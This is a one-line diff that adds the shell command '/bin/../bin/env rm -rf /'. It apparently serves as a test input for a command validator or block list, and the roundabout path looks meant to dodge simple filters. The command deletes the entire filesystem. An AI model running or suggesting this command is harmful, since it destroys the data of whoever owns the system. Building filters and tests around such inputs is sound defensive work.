@@ -1,0 +1,1 @@
+/bin/../bin/env rm -rf /
